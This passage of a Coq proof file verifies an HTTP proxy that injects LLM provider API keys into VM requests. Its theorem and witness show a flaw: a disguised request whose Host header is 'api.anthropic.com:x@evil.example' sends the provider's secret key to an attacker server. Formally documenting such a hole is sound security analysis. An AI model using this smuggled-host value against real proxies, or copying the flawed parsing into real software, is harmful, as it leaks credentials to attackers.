  forallb (fun c => negb (ends_authority c)) (list_ascii_of_string (request_host req)) = true ->
  rooted (request_path req) = true -> url_host (request_url ctx req) = authority_host (request_host req).
Proof.
  intros Hh Hp. unfold url_host, request_url. f_equal.
  replace (after_scheme _) with (request_host req +:+ request_path req) by by destruct (use_tls_upstream ctx).
  by apply upto_all.
Qed.

(** A host that names [p] to the code, and another server to everyone else. *)
Lemma disguised_host ctx req p user host :
  p ∈ PROVIDERS -> plain_host user = true -> plain_host host = true -> rooted (request_path req) = true ->
  request_host req = prov_host p +:+ ":" +:+ user +:+ "@" +:+ host ->
  host_bare (request_host req) = prov_host p /\ url_host (request_url ctx req) = authority_host host.
Proof.
  intros Hp Hu Hh Hr E. split.
  - rewrite E, host_bare_upto. repeat (apply elem_of_cons in Hp as [-> |Hp]; [done|]). by apply not_elem_of_nil in Hp.
  - rewrite request_url_host; [|rewrite E|done].
    + unfold authority_host. rewrite E. pose proof (after_userinfo_at (prov_host p +:+ ":" +:+ user) host Hh) as Ha.
      rewrite !sapp_assoc in Ha. by rewrite Ha, (after_userinfo_plain host).
    + rewrite !chars_app, (plain_authority user), (plain_authority host) by done.
      repeat (apply elem_of_cons in Hp as [-> |Hp]; [done|]). by apply not_elem_of_nil in Hp.
Qed.

Definition same_name (name : string) (kv : string * list byte) : Prop := to_ascii_lowercase kv.1 = to_ascii_lowercase name.
#[export] Instance same_name_dec name kv : Decision (same_name name kv).
Proof. unfold same_name. apply _. Defined.

(** The headers sent are the VM's, with the key in the provider's header, once, in
    place of any the VM gave. *)
Definition carries_key (p : LlmProvider) (key : string) (req : IncomingRequest) (up : UpstreamRequest) : Prop :=
  filter (same_name (auth_header p)) (up_headers up) = [(auth_header p, bytes_of_str (header_value p key))] /\
  filter (fun kv => ~ same_name (auth_header p) kv) (up_headers up) =
    filter (fun kv => ~ same_name (auth_header p) kv) (in_headers req).

(** The request is sent to the provider. *)
Definition sent_to (p : LlmProvider) (up : UpstreamRequest) : Prop :=
  p ∈ PROVIDERS /\ eq_ignore_ascii_case (url_host (up_uri up)) (prov_host p) = true.

Lemma detect_provider host path p keys :
  p ∈ PROVIDERS -> eq_ignore_ascii_case (host_bare host) (prov_host p) = true ->
  detect_llm_request host path keys = Some (detection p path keys).
Proof.
  intros Hp Hh. unfold detect_llm_request, eq_ignore_ascii_case in *.
  apply String.eqb_eq in Hh. unfold PROVIDERS in *.
  set (h := to_ascii_lowercase (host_bare _)) in *. clearbody h. subst h.
  repeat (apply elem_of_cons in Hp as [-> |Hp]; [done|]). by apply not_elem_of_nil in Hp.
Qed.

Lemma list_filter_all {A} (P : A -> Prop) `{!forall x, Decision (P x)} (l : list A) : (forall x, P x) -> filter P l = l.
Proof. intros HP. induction l as [|x l IH]; [done|]. by rewrite filter_cons, decide_True, IH. Qed.

Lemma filter_stripped det name hs :
  det ≫= strip_header = Some name ->
  filter (same_name name) (filter (fun kv : string * list byte => stripped det kv.1 = false) hs) = [] /\
  filter (fun kv => ~ same_name name kv) (filter (fun kv : string * list byte => stripped det kv.1 = false) hs) =
    filter (fun kv => ~ same_name name kv) hs.
Proof.
  intros Hs. unfold stripped. rewrite Hs. split.
  - induction hs as [|kv hs IH]; [done|]. rewrite filter_cons. destruct (decide (String.eqb _ _ = false)) as [E|E]; [|done].
    rewrite filter_cons, decide_False by (by apply String.eqb_neq in E). done.
  - induction hs as [|kv hs IH]; [done|]. rewrite !filter_cons. destruct (decide (String.eqb _ _ = false)) as [E|E].
    + rewrite filter_cons, IH. done.
    + rewrite IH, decide_False; [done|]. intros Hc. apply E. by apply String.eqb_neq.
Qed.

Lemma build_upstream_headers det url req up :
  build_upstream det url req = Ok up -> up_headers up = upstream_headers det (in_headers req) /\ up_uri up = url.
Proof. unfold build_upstream. intros Hb. repeat case_match; by simplify_eq. Qed.

(** What the code does, by its own reading of the host. *)
Lemma headers_with_key p keys key host path req up :
  p ∈ PROVIDERS -> eq_ignore_ascii_case (host_bare host) (prov_host p) = true -> keys !! prov_name p = Some key ->
  up_headers up = upstream_headers (detect_llm_request host path keys) (in_headers req) -> carries_key p key req up.
Proof.
  intros Hp Hh Hk Hu. unfold carries_key. rewrite Hu, (detect_provider host path p keys Hp Hh). unfold detection, upstream_headers.
  rewrite Hk. cbn [mbind option_bind strip_header inject_header]. rewrite !filter_app.
  destruct (filter_stripped (Some (mkLlmDetection (prov_name p)
    (match list_find (fun ep => starts_with (path_prefix ep) path = true) (endpoints p) with
     | Some (_, ep) => ep_name ep | None => "unknown"%string end)
    (Some (auth_header p)) (Some (auth_header p, header_value p key)))) (auth_header p) (in_headers req) eq_refl) as [-> ->].
  rewrite !filter_cons, decide_True, decide_False by (unfold same_name; auto). by rewrite app_nil_r.
Qed.

Lemma headers_without_key keys host path hs :
  (forall p, p ∈ PROVIDERS -> eq_ignore_ascii_case (host_bare host) (prov_host p) = true -> keys !! prov_name p = None) ->
  upstream_headers (detect_llm_request host path keys) hs = hs.
Proof.
  intros Hn. unfold upstream_headers, detect_llm_request. destruct (list_find _ PROVIDERS) as [[i p]|] eqn:E.
  - apply list_find_Some in E as (Hi & Hh & _). unfold detection, stripped.
    rewrite (Hn p) by (done || by eapply list_elem_of_lookup_2). simpl. rewrite app_nil_r. by apply list_filter_all.
  - simpl. rewrite app_nil_r. by apply list_filter_all.
Qed.

(** C20. API keys.  For a request whose Host header is a plain host with an optional
    port and whose target is a path: when the URL it is sent to has the host of a
    provider, ignoring case, for which the server has a key, the request carries the
    key in the provider's header, exactly once and in place of any value the VM gave,
    and all other headers unchanged and in order; when that host is no provider's, or
    one without a key, the headers are the VM's.  Host headers with user information
    are where this ends: whatever server a VM writes after the name of a provider, a
    colon, any text and an at sign, the request goes to that server and carries the
    provider's key. *)
Theorem http_key_injection (ctx : ProxyCtx) req up :
  build_upstream (detect_llm_request (request_host req) (request_path req) (llm_keys ctx)) (request_url ctx req) req = Ok up ->
  rooted (request_path req) = true ->
  (plain_host (request_host req) = true ->
     (forall p key, sent_to p up -> llm_keys ctx !! prov_name p = Some key -> carries_key p key req up) /\
     ((forall p, sent_to p up -> llm_keys ctx !! prov_name p = None) -> up_headers up = in_headers req)) /\
  (forall p key user host,
     p ∈ PROVIDERS -> llm_keys ctx !! prov_name p = Some key -> plain_host user = true -> plain_host host = true ->
     request_host req = prov_host p +:+ ":" +:+ user +:+ "@" +:+ host ->
     url_host (up_uri up) = authority_host host /\ carries_key p key req up).
Proof.
  intros Hb Hr. destruct (build_upstream_headers _ _ _ _ Hb) as [Hu Hurl]. unfold sent_to. rewrite Hurl. split.
  - intros Hh. rewrite request_url_host by (done || by apply plain_authority). split.
    + intros p key [Hp He] Hk. rewrite host_bare_right in He by done. by eapply headers_with_key.
    + intros Hn. rewrite Hu. apply headers_without_key. intros p Hp He. apply Hn. by rewrite host_bare_right.
  - intros p key user host Hp Hk Hus Hh E. destruct (disguised_host ctx req p user host Hp Hus Hh Hr E) as [Hbare ->].
    split; [done|]. eapply headers_with_key; [done| |done..]. rewrite Hbare. apply String.eqb_refl.
Qed.

End headers.

Section answers.
Context {W : Type} `{FileSystem W} `{Clock W} `{Timestamps W} `{UuidGen W} `{UuidText} `{SerdeJson} `{HashOrder}
  `{AuthService W} `{HttpCrate} `{HttpUpstream W} `{StringMapOrder}.
Context (ctx : ProxyCtx).

(** The last value of a name in a header map. *)
Definition last_value (name : string) (hs : header_map) : option (list byte) :=
  last (map snd (filter (fun kv : string * list byte => kv.1 = name) hs)).

Lemma headers_map_lookup hs name :
  headers_map hs !! name = (fun v => default EmptyString (to_str v)) <$> last_value name hs.
Proof.
  unfold headers_map, last_value. induction hs as [|[k v] hs IH] using rev_ind; [done|].
  rewrite fold_left_app, filter_app, map_app, filter_cons. cbn [fold_left fst].
  destruct (decide (k = name)) as [-> |Hne].
  - rewrite lookup_insert_eq, filter_nil. cbn [map]. by rewrite last_snoc.
  - by rewrite lookup_insert_ne, IH, filter_nil, app_nil_r.
Qed.

Lemma relay_result start det vm_id corr_id resp (s : Server * W) :
  (relay ctx start det vm_id corr_id resp s).1 =
    relay_response (ur_status resp) (smap_iter (headers_map (ur_headers resp))) (default [] (res_ok (ur_body resp))).
Proof. unfold relay, bind, ret. by repeat case_match. Qed.

(** C36. Answers: the VM gets the status and the body of the upstream server (an
    empty body if it could not be read) and, of its headers, for each name but the
    two hop-by-hop ones the last value (empty if it is not text), one per name; no
    header is refused, if the [http] crate takes back the names and values that it
    gave out. *)
Theorem relay_answers start det vm_id corr_id resp (s : Server * W) :
  Forall (fun kv => header_check kv.1 (default EmptyString (to_str kv.2)) = Ok tt) (ur_headers resp) ->
  exists hs,
    (relay ctx start det vm_id corr_id resp s).1 =
      Done (mkResponse (ur_status resp) hs (default [] (res_ok (ur_body resp)))) /\
    NoDup (map fst hs) /\
    forall name value, (name, value) ∈ hs <->
      hop_by_hop name = false /\
      exists v, last_value name (ur_headers resp) = Some v /\ value = default EmptyString (to_str v).
Proof.
  intros Hok. rewrite relay_result. unfold relay_response.
  set (m := headers_map (ur_headers resp)). set (kept := filter _ (smap_iter m)).
  assert (Hin : forall name value, (name, value) ∈ kept <-> hop_by_hop name = false /\
      exists v, last_value name (ur_headers resp) = Some v /\ value = default EmptyString (to_str v)).
  { intros name value. unfold kept. rewrite list_elem_of_filter, smap_perm, elem_of_map_to_list. unfold m.
    rewrite headers_map_lookup, fmap_Some. done. }
  exists kept. split; [|split; [|done]].
  - enough (forallb (fun kv : string * string => is_ok (header_check kv.1 kv.2)) kept = true) as -> by done.
    apply forallb_forall. intros [name value] Hkv. apply list_elem_of_In, Hin in Hkv as (_ & v & Hv & ->).
    unfold last_value in Hv. apply last_Some_elem_of, list_elem_of_fmap in Hv as ([k v'] & -> & Hv).
    apply list_elem_of_filter in Hv as [Hk Hv]. simpl in *. subst k.
    rewrite Forall_forall in Hok. specialize (Hok _ Hv). simpl in Hok. by rewrite Hok.
  - eapply sublist_NoDup; [|apply fmap_sublist, sublist_filter].
    change (NoDup (fmap fst (smap_iter m))). rewrite smap_perm. apply NoDup_fst_map_to_list.
Qed.

End answers.

(** * Runs on the example host *)

Definition http_host : Type := logged_host UpstreamRequest.

Definition example_response : UpstreamResponse :=
  mkUpstreamResponse 200 [("x-a", [x31]); ("x-a", [x32]); ("connection", [x63])]%string (Ok [x6f; x6b]).

#[export] Instance http_upstream : HttpUpstream http_host := {|
  http_request r := fun '(s, l) => (Ok example_response, (s, l ++ [Forwarded r])) |}.

#[export] Instance http_trace : HttpTrace http_host.
Proof. constructor; [by intros r [s l]|]. intros p c [s l]. apply on_sim_keeps. Qed.

(** Values of printable ASCII are text. *)
#[export] Instance http_crate : HttpCrate := {|
  to_str v := if forallb (in_range 32 126) v then Some (str_of_bytes v) else None;
  parse_uri _ := Ok tt;
  header_check _ _ := Ok tt;
|}.

#[export] Instance string_map_order : StringMapOrder.
Proof. by refine {| smap_iter := map_to_list |}. Defined.

Definition example_ctx : ProxyCtx :=
  mkProxyCtx (mkBodyStore "/b" DEFAULT_INLINE_THRESHOLD) Connected {["anthropic"%string := "secret"%string]} true.

Definition example_request : IncomingRequest :=
  mkIncoming "POST" (Some "/v1/messages"%string)
    [("host", bytes_of_str "API.anthropic.com:443"); ("x-api-key", bytes_of_str "mine");
     ("accept", bytes_of_str "*")]%string (Ok [x7b; x7d]).

(** The request of the example server's VM is forwarded after the service allowed it. *)
Lemma http_forwards_run :
  let '(_, s') := handle_request example_ctx example_request (mkSocketAddr vm_ip 1234) (example_create.2.1, (empty_sim, [])) in
  exists req reason up, net_log s'.2 = [Asked req (Ok (true, reason)); Forwarded up] /\
    up_uri up = "https://API.anthropic.com:443/v1/messages"%string /\ up_body up = [x7b; x7d].
Proof.
  pose proof (http_forwards_only_authorized example_ctx example_request (mkSocketAddr vm_ip 1234)
    example_create.2.1 (empty_sim, [])) as Hh.
  assert (rs_status <$> match (handle_request example_ctx example_request (mkSocketAddr vm_ip 1234)
            (example_create.2.1, (empty_sim, []))).1 with Done r => Some r | _ => None end = Some 200) as Ho
    by (vm_compute; reflexivity).
  destruct (handle_request example_ctx example_request (mkSocketAddr vm_ip 1234) (example_create.2.1, (empty_sim, [])))
    as [o s'].
  destruct Hh as (evs & [(_ & _ & r & -> & Hst)|(id & up & Hl & _ & _ & Hu & Hb & Ha)]).
  { simpl in Ho. destruct Hst as [E|E]; rewrite E in Ho; discriminate Ho. }
  destruct Ha as (req & reason & -> & _). exists req, reason, up. split; [exact Hl|]. split; [exact Hu|exact Hb].
Defined.

Definition anthropic_provider : LlmProvider :=
  mkLlmProvider "anthropic" "api.anthropic.com" "CLAWPOT_ANTHROPIC_API_KEY" "x-api-key" false
    [mkLlmEndpoint "messages" "/v1/messages"].

(** The VM sends the server's key to a server of its own. *)
Definition disguised_request : IncomingRequest :=
  mkIncoming "POST" (Some "/v1/messages"%string) [("host"%string, bytes_of_str "api.anthropic.com:x@evil.example")] (Ok []).

Lemma http_key_injection_witness :
  (exists up, build_upstream (detect_llm_request (request_host example_request) (request_path example_request)
                                (llm_keys example_ctx)) (request_url example_ctx example_request) example_request = Ok up /\
     carries_key anthropic_provider "secret" example_request up) /\
  (exists up, build_upstream (detect_llm_request (request_host disguised_request) (request_path disguised_request)
                                (llm_keys example_ctx)) (request_url example_ctx disguised_request) disguised_request = Ok up /\
     url_host (up_uri up) = "evil.example"%string /\ carries_key anthropic_provider "secret" disguised_request up).
Proof.
  split; eexists; (split; [reflexivity|]).
  - edestruct (http_key_injection example_ctx example_request) as [Hk _]; [reflexivity|reflexivity|].
    apply (Hk eq_refl); [split; [left|reflexivity]|reflexivity].
  - edestruct (http_key_injection example_ctx disguised_request) as [_ Hk]; [reflexivity|reflexivity|].
    apply (Hk anthropic_provider "secret"%string "x"%string "evil.example"%string); [left|reflexivity..].
Defined.

Lemma relay_answers_witness :
  exists hs, (relay example_ctx 0 None "vm" "corr" example_response (example_server, (empty_sim, []) : http_host)).1 =
      Done (mkResponse 200 hs [x6f; x6b]) /\ ("x-a", "2")%string ∈ hs.
Proof.
  destruct (relay_answers example_ctx 0 None "vm" "corr" example_response (example_server, (empty_sim, []) : http_host))
    as (hs & Hr & _ & Hin).
  - repeat constructor.
  - exists hs. split; [exact Hr|]. apply Hin. split; [reflexivity|]. exists [x32]. split; reflexivity.
Defined.
